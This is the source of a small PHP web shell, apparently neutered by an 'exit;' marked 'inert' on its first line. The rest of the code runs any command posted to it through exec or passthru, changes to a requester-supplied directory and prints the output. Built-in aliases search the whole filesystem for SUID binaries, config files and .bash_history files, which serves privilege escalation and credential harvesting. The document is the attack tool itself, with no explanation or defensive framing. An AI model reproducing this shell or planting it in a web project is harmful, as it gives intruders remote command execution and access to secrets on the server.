<?php exit; /* inert */ 
$language='eng';
$aliases=array(
'find suid files'=>'find / -type f -perm -04000 -ls',
'find config* files'=>'find / -type f -name "config*"',
'locate .bash_history'=>'find / -type f -name .bash_history',
);
function ex($cfe){ $res=''; if(!empty($cfe)){ if(@function_exists('exec')){ @exec($cfe,$res); $res=join("\n",$res); } elseif(@function_exists('passthru')){ @ob_start(); @passthru($cfe); $res=@ob_get_contents(); @ob_end_clean(); } } return $res; }
if(!empty($_POST['dir'])){ @chdir($_POST['dir']); }
if(!empty($_POST['alias'])){ foreach($aliases as $n=>$c){ if($_POST['alias']==$n){ $_POST['cmd']=$c; } } }
echo '<form method=post><select name=alias>'; foreach($aliases as $n=>$c){ echo "<option>$n</option>"; }
echo '</select><input name=cmd><input name=dir value="'.getcwd().'"></form><textarea>'.ex($_POST['cmd']).'</textarea>';
